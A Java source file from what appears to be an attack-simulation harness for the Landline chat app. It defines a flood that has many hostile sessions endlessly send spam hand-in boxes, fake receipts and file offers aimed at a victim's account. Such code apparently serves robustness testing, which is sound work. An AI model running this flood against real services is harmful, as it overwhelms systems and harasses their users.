package io.landline.attack;

import static java.nio.charset.StandardCharsets.UTF_8;

import io.landline.chat.act.HandInBox;
import io.landline.chat.act.HandInReceipt;
import io.landline.chat.act.Reference;
import io.landline.frame.FrameType;
import io.landline.peer.Fingerprint;
import io.landline.room.ConversationId;
import io.landline.room.EntryId;
import java.io.IOException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.concurrent.ThreadLocalRandom;

/// Hand-in boxes in the room, and in the direct conversation receipts and offers that are for a box of the victim's, as
/// fast as TCP takes them.
record HandInFlood(int people) implements Attack {
    private static final int ENTRIES_A_FRAME = 150;
    private static final int COLLECT = 13;
    private static final int RECEIPT = 14;

    @Override
    public void run(Target target, Runnable begun) throws InterruptedException {
        Crowd.run(target, people, begun, session -> flood(target, session));
    }

    private static void flood(Target target, HostileSession session) throws IOException {
        long id = ThreadLocalRandom.current().nextLong();
        Fingerprint victim = Fingerprint.ofPublicKey(session.victimKey);
        byte[] conversation = ConversationId
                .direct(victim, Fingerprint.ofPublicKey(session.identity.publicKey()))
                .bytes();
        var room = new HostileLog(session.identity, target.conversation(), id);
        var direct = new HostileLog(session.identity, conversation, id);
        var box = new Reference(victim, id, 1, id);
        byte[] collect = new HandInBox("Spam", Instant.now(), "*.pdf", 1_000, true).toBody();
        byte[] receipt = new HandInReceipt(EntryId.of(new byte[EntryId.BYTES]), box, null, Instant.now(), false, 1)
                .toBody();
        byte[] offer = ("{\"files\":1,\"bytes\":10,\"names\":[\"essay.pdf\"],\"chunk\":1048576,\"for\":" + box.toJson()
                + "}").getBytes(UTF_8);
        while (true) {
            var boxes = new ArrayList<byte[]>();
            var others = new ArrayList<byte[]>();
            for (int i = 0; i < ENTRIES_A_FRAME; i++) {
                boxes.add(room.next(COLLECT, collect));
                others.add(i % 2 == 0 ? direct.next(RECEIPT, receipt) : direct.next(HostileLog.OFFER, offer));
            }
            session.send(FrameType.ENTRIES, HostileLog.frame(target.conversation(), boxes));
            session.send(FrameType.ENTRIES, HostileLog.frame(conversation, others));
        }
    }
}
